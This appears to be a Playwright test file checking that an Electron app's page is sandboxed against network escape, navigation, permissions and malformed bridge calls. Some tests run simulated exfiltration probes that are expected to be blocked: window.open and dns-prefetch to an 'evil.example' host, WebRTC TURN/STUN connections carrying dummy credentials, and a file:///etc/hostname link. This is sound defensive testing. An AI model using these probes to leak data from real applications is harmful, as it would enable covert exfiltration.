import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { createServer as createTcpServer, type AddressInfo } from 'node:net';
import path from 'node:path';
import type { ElectronApplication, Page } from '@playwright/test';
import type { Bridge, Reply } from '#shared/contract/bridge.ts';
import { errorCodes } from '#shared/lib/app-error.ts';
import { demoAccount } from '#tests/support/app-server.ts';
import { signIn } from '#tests/support/journeys/signing-in.ts';
import { readLogs } from './app-log.ts';
import { expect, test } from './fixtures.ts';
import { addressesElsewhere, malformedCalls } from './malformed-calls.ts';
import { projectRoot } from './start-app.ts';

type PageWindow = Window & { bridge: Bridge };
const preload = path.join(projectRoot, 'dist-electron/preload.cjs');

test('the page is alone with its bridge: no Node, no network, its own policy', async ({
  launch,
  server,
  consoleNoise,
}) => {
  const { page } = await launch();
  const found = await page.evaluate(async (address) => {
    const reached = await fetch(address).then(
      () => true,
      () => false,
    );
    return {
      origin: location.origin,
      isSecure: isSecureContext,
      bridge: Object.keys((window as unknown as PageWindow).bridge).sort(),
      node: ['require', 'process', 'module', 'Buffer', 'ipcRenderer'].filter((name) => name in window),
      reached,
      policy: (await fetch('/')).headers.get('content-security-policy'),
      faces: (await document.fonts.load('14px "Inter Variable"')).length,
    };
  }, server.url);
  expect(found).toMatchObject({
    origin: 'app://bundle',
    isSecure: true,
    bridge: ['call', 'on'],
    node: [],
    reached: false,
    faces: 1,
  });
  expect(found.policy).toContain("font-src 'self'; connect-src 'self'");
  // Chromium tells of the request that it refused.
  expect(
    consoleNoise.splice(0).filter((line) => !line.includes(`Refused to connect to '${server.url}`)),
  ).toEqual([]);
});

test('the window does not leave the app’s page, and opens no other', async ({ launch, consoleNoise }) => {
  const elsewhere = createServer((_request, response) => response.end('elsewhere')).listen(0, '127.0.0.1');
  await once(elsewhere, 'listening');
  const { port } = elsewhere.address() as AddressInfo;
  const { app, page } = await launch();
  // A link followed before there is a page would only take the place of the page's own coming.
  await expect(page.getByRole('tab', { name: 'Sign In' })).toBeVisible();
  await app.evaluate(({ shell }) => {
    const opened: string[] = [];
    Object.assign(globalThis, { opened });
    shell.openExternal = async (url) => void opened.push(url);
  });
  const links = [
    `http://127.0.0.1:${port}/`,
    'https://example.com/away',
    'file:///etc/hostname',
    'app://bundle/favicon.svg',
  ];
  for (const link of links) {
    await follow(page, link, '_self');
    await follow(page, link, '_blank');
  }
  await expect(page.getByRole('tab', { name: 'Sign In' })).toBeVisible();
  expect(page.url()).toMatch(/^app:\/\/bundle\/#/);
  expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
  expect(await app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened)).toEqual([
    'https://example.com/away',
    'https://example.com/away',
  ]);
  expect(
    consoleNoise.splice(0).filter((line) => !line.includes('Not allowed to load local resource')),
  ).toEqual([]);
  elsewhere.close();
});

test('a page left for an empty one comes back', async ({ launch, home }) => {
  const { app, page } = await launch();
  await expect(page.getByRole('tab', { name: 'Sign In' })).toBeVisible();
  await app.evaluate(({ BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0]?.webContents;
    void contents?.executeJavaScript("location.href = 'about:blank'");
  });
  await expect.poll(() => readLogs(home)).toContainEqual(expect.objectContaining({ event: 'page.left' }));
  await expect(page.getByRole('tab', { name: 'Sign In' })).toBeVisible();
  expect(page.url()).toMatch(/^app:\/\/bundle\/#/);
});

test('a script cannot tell the web by opening links', async ({ launch, home }) => {
  const { app, page } = await launch();
  await expect(page.getByRole('tab', { name: 'Sign In' })).toBeVisible();
  await app.evaluate(({ shell }) => {
    const opened: string[] = [];
    Object.assign(globalThis, { opened });
    shell.openExternal = async (url) => void opened.push(url);
  });
  await page.evaluate(() => {
    for (let part = 0; part < 50; part += 1) window.open(`https://evil.example/?${part}`);
  });
  await expect.poll(() => readLogs(home)).toContainEqual(expect.objectContaining({ event: 'link.refused' }));
  expect(await app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened)).toHaveLength(5);
});

test('a script cannot talk out past the policy: peer connections, hints to the browser', async ({
  launch,
  home,
}) => {
  const seen: string[] = [];
  const overTcp = createTcpServer((socket) => {
    seen.push('tcp');
    socket.destroy();
  }).listen(0, '127.0.0.1');
  const overUdp = createSocket('udp4').on('message', () => seen.push('udp'));
  overUdp.bind(0, '127.0.0.1');
  await Promise.all([once(overTcp, 'listening'), once(overUdp, 'listening')]);
  const tcp = (overTcp.address() as AddressInfo).port;
  const { app, page } = await launch();
  await expect(page.getByRole('tab', { name: 'Sign In' })).toBeVisible();
  const network = path.join(home, 'network.json');
  await app.evaluate(({ netLog }, file) => netLog.startLogging(file), network);
  const gathered = await page.evaluate(
    async ([tcp, udp]) => {
      const hint = (rel: string, href: string) => {
        document.head.append(Object.assign(document.createElement('link'), { rel, href }));
      };
      hint('preconnect', `https://127.0.0.1:${tcp}`);
      hint('dns-prefetch', 'https://a-secret.evil.example');
      const servers = [
        `turn:127.0.0.1:${tcp}?transport=tcp`,
        `turn:127.0.0.1:${udp}`,
        `stun:127.0.0.1:${udp}`,
      ];
      const peer = new RTCPeerConnection({
        iceServers: servers.map((urls) => ({ urls, username: 'secret', credential: 'secret' })),
      });
      peer.createDataChannel('out');
      const done = new Promise((resolve) => {
        peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(true);
      });
      await peer.setLocalDescription(await peer.createOffer());
      return done;
    },
    [tcp, overUdp.address().port] as const,
  );
  expect(gathered).toBe(true);
  expect(seen).toEqual([]);
  await app.evaluate(({ netLog }) => netLog.stopLogging());
  expect(readFileSync(network, 'utf8')).not.toContain('a-secret');
  // Whatever is asked for beneath the policy.
  const blocked = await app.evaluate(async ({ net, session }, address) => {
    const proxy = await session.defaultSession.resolveProxy('https://example.com/');
    return new Promise((resolve) => {
      const request = net.request({ url: address, session: session.defaultSession });
      request.on('response', () => resolve('reached'));
      request.on('error', (error) => resolve(`${proxy} ${error.message}`));
      request.end();
    });
  }, `http://127.0.0.1:${tcp}/`);
  expect(blocked).toBe('PROXY 127.0.0.1:9 net::ERR_BLOCKED_BY_CLIENT');
  expect(seen).toEqual([]);
  overTcp.close();
  overUdp.close();
});

test('the page may copy, and asks for nothing else', async ({ launch }) => {
  const { page } = await launch();
  const answers = await page.evaluate(async () => ({
    notifications: await Notification.requestPermission(),
    location: await new Promise((resolve) => {
      navigator.geolocation.getCurrentPosition(
        () => resolve('granted'),
        ({ code }) => resolve(code),
      );
    }),
    camera: await navigator.mediaDevices.getUserMedia({ video: true }).then(
      () => 'granted',
      (error: unknown) => (error as Error).name,
    ),
  }));
  expect(answers.notifications).toBe('denied');
  expect(answers.location).not.toBe('granted');
  expect(answers.camera).not.toBe('granted');
});

test('a frame inside the page is refused', async ({ launch, server }) => {
  const { app, page } = await launch();
  await signIn(page, demoAccount(server, 'mia'));
  // The product's windows give frames no bridge at all. This one does, to see that the main process refuses them as well.
  const reply = await inAnotherWindow(
    app,
    { url: 'app://bundle/', nodeIntegrationInSubFrames: true },
    `new Promise((resolve) => {
      const frame = Object.assign(document.createElement('iframe'), { srcdoc: '<p>inside</p>' });
      frame.onload = () => resolve(frame.contentWindow.bridge.call('auth.getSession'));
      document.body.append(frame);
    })`,
  );
  expect(reply).toMatchObject({ ok: false, error: { code: 'forbidden', hint: 'foreign_frame' } });
});

test('a page from elsewhere is refused, and the app’s own is not', async ({ launch, server }) => {
  const { app, page } = await launch();
  await signIn(page, demoAccount(server, 'mia'));
  const ask = `bridge.call('auth.getSession')`;
  for (const url of ['data:text/html,foreign', `${server.url}/`, 'about:blank'])
    expect(await inAnotherWindow(app, { url }, ask), url).toMatchObject({
      ok: false,
      error: { code: 'forbidden', hint: 'foreign_frame' },
    });
  expect(await inAnotherWindow(app, { url: 'app://bundle/' }, ask)).toMatchObject({ ok: true });
});

const smallFile = {
  ...{ uploadId: '00000000-0000-4000-8000-00000000000a', bucket: 'attachments', sizeBytes: 10 },
  ...{ objectName: 'task/00000000-0000-4000-8000-00000000000b', mediaType: 'application/pdf' },
};

test('unknown and malformed calls are refused as data, a thousand times over', async ({ launch, server }) => {
  const { page } = await launch();
  await signIn(page, demoAccount(server, 'mia'));
  const files = addressesElsewhere(server.url).flatMap((address): (readonly [string, unknown])[] => [
    ['files.discard', { resumeAt: address }],
    ['files.upload', { ...smallFile, resumeAt: address }],
    ['files.read', { link: address, start: 0, end: 10 }],
    ['files.save', { link: address, fileName: 'a.pdf' }],
  ]);
  const calls = [...malformedCalls(1000), ...files];
  const replies = await page.evaluate(
    (list) =>
      Promise.all(list.map(([name, input]) => (window as unknown as PageWindow).bridge.call(name, input))),
    calls as [string, unknown][],
  );
  expect(replies).toHaveLength(calls.length);
  const odd = replies.filter((reply: Reply) => reply.ok || !errorCodes.includes(reply.error.code));
  expect(odd).toEqual([]);
  expect(replies.filter((reply) => !reply.ok && reply.error.code !== 'invalid')).toEqual([]);
  // And the app works as before.
  expect(
    await page.evaluate(() => (window as unknown as PageWindow).bridge.call('auth.getSession', undefined)),
  ).toMatchObject({ ok: true, data: { profile: { email: 'mia@northlight.example' } } });
});

/** Follows a link as a script in the page would. */
const follow = (page: Page, href: string, target: string) =>
  page.evaluate(
    ([href, target]) => {
      const link = Object.assign(document.createElement('a'), { href, target });
      document.body.append(link);
      link.click();
      link.remove();
    },
    [href, target] as const,
  );

type OtherWindow = { url: string; nodeIntegrationInSubFrames?: boolean };

/** Runs a script in another window that has the app's preload, whatever it shows. */
const inAnotherWindow = (app: ElectronApplication, options: OtherWindow, script: string): Promise<unknown> =>
  app.evaluate(
    async ({ BrowserWindow }, [{ url, nodeIntegrationInSubFrames = false }, preload, script]) => {
      const window = new BrowserWindow({
        show: false,
        // The app's own session has no network.
        webPreferences: {
          preload,
          sandbox: true,
          nodeIntegrationInSubFrames,
          ...(url.startsWith('http') ? { partition: 'elsewhere' } : {}),
        },
      });
      try {
        await window.loadURL(url);
        return (await window.webContents.executeJavaScript(script)) as unknown;
      } finally {
        window.destroy();
      }
    },
    [options, preload, script] as const,
  );
